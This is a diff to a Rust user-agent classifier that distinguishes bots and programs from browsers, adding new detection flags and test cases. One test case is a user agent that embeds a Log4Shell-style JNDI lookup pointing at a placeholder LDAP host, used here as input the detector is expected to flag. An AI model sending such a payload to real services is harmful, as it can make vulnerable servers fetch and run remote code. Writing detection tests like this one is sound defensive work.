@@ -25,6 +25,7 @@ struct Heard {
     doubt: Option<Reason>,
     names_something: bool,
     generic: bool,
+    trade: bool,
     contact: bool,
     compatible: bool,
     old_browser: bool,
@@ -53,12 +54,17 @@ impl Saying {
         let netscape = begins(text, "mozilla/") || begins(text, "opera/");
         let on_a_desktop = matches!(agent.device, Device::Desktop | Device::Other);
         // Apps on telephones give an address as well: their customer's.
-        let contact = heard.contact && (netscape || on_a_desktop);
+        let contact = heard.contact && (netscape || on_a_desktop || agent.os.is_empty());
         let is_an_old_phone = !on_a_desktop && !matches!(agent.os, "" | "Android" | "iOS" | "iPadOS");
         // `compatible;` was how the browsers of the nineties claimed to be Netscape. Only robots still say it.
         if heard.generic
+            || heard.trade && on_a_desktop
             || contact
-            || heard.compatible && !(heard.old_browser || heard.device && !netscape) && !is_an_old_phone
+            || shape::is_a_template(text)
+            || heard.compatible
+                && (netscape || on_a_desktop)
+                && !(heard.old_browser || heard.device && !netscape)
+                && !is_an_old_phone
             || grammar::has_a_guest(text, agent, is_known)
         {
             return Self::Program { reason: Reason::UaList, certain: true };
@@ -100,6 +106,7 @@ impl Heard {
                 Some(Sign::Generic) => {
                     heard.generic |= word.end > heard.model_end || text.get(word.end) == Some(&b'/');
                 }
+                Some(Sign::Trade) => heard.trade |= word.end > heard.model_end,
                 Some(Sign::Person) => {}
                 // Android's `4.0 Compatible` is of its version.
                 Some(Sign::Compatible) => heard.compatible |= word.end > heard.model_end,
@@ -116,12 +123,13 @@ impl Heard {
                 }
                 Some(Sign::Mozilla) => heard.late |= word.start > 1,
                 Some(Sign::Safari) => {
-                    heard.generic |= heard.model_end == 0 && shape::adds_a_product(text, word);
+                    heard.trade |= heard.model_end == 0 && shape::adds_a_product(text, word);
                 }
                 Some(Sign::TopLevel) => {
                     heard.contact |= word.end > heard.model_end && shape::is_domain(text, word);
                 }
                 None => {
+                    heard.generic |= shape::points_to_itself(text, word);
                     heard.contact |= word.end > heard.model_end && shape::gives_contact(text, word);
                 }
             }
@@ -133,7 +141,8 @@ impl Heard {
 /// Whether a word of the text belongs to what a person may use.
 fn is_known(text: &[u8]) -> bool {
     words(text).any(|word| {
-        let of_a_program = |sign: &Sign| matches!(sign, Sign::Generic | Sign::Named { .. });
+        let of_a_program =
+            |sign: &Sign| matches!(sign, Sign::Generic | Sign::Trade | Sign::Named { .. } | Sign::TopLevel);
         let sign = SIGNS.at(text, word).map(|found| found.value).or_else(|| SIGNS.ending(text, word));
         sign.is_some_and(|sign| !of_a_program(sign)) || crate::agent::is_named(text, word)
     })
@@ -170,6 +179,7 @@ mod tests {
             let others = [
                 "person",
                 "generic",
+                "trade",
                 "compatible",
                 "old_browser",
                 "device",
@@ -213,6 +223,17 @@ mod tests {
             ("Go-http-client/2.0", "ua_generic_library"),
             ("Java/17.0.2", "ua_generic_library"),
             ("neverseen/0.8.1", "ua_generic_library"),
+            ("Mozilla/5.0 (Windows 11 10.0) Java/1.8.0_391", "ua_generic_library"),
+            ("Microsoft Office Access 2013 (15.0.4693) Windows NT 6.2", "ua_list"),
+            ("NeverHeardOfLinkChecker/2.1 (iPhone; iOS 18.5)", "ua_list"),
+            ("DoCoMo/2.0 P900i(c100;TB;W24H11) (compatible; never/heard; +http://of.example/)", "ua_list"),
+            ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; www.example.com)", "ua_list"),
+            ("never-heard.de pad browser", "ua_list"),
+            ("https://never.example/ Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X)", "ua_list"),
+            (
+                "Mozilla/5.0 (Windows NT 10.0; ${jndi:ldap://x.example/a}) Gecko/20100101 Firefox/145.0",
+                "ua_list",
+            ),
             (
                 "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36",
                 "headless",
@@ -239,6 +260,12 @@ mod tests {
             "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]",
             "Mozilla/5.0 (Linux; Android 4.0.3; ARCHOS 101G9 Build/ICS@ROM_04.06.2012) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0 Safari/535.19",
             "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.tropicdesigns.net)",
+            "ChatGPT/1.2025.322 (iOS 26.1; iPhone17,1; build 19585375154)",
+            "NewsOfTodayAndroid/5.9.0 (110807)",
+            "News/172 (iPhone10,4; iOS 18.1) NewsHTTPClient/7.1.1",
+            "SM-G970F (compatible; Mobile2.0) Some News, com.example.news 5.1.3 (510) / Android 31",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1; SomeApp/1.31.2",
+            "Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.0.0 Mobile Safari/537.36 HiSearch/22.0.6.315",
             "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
             "Mozilla/5.0 (compatible; Konqueror/3.5; OpenBSD) KHTML/3.5.9 (like Gecko)",
             "Mozilla/4.0 (compatible; Some Podcasting; SymbianOS; NokiaN97-4/11.0.102)",
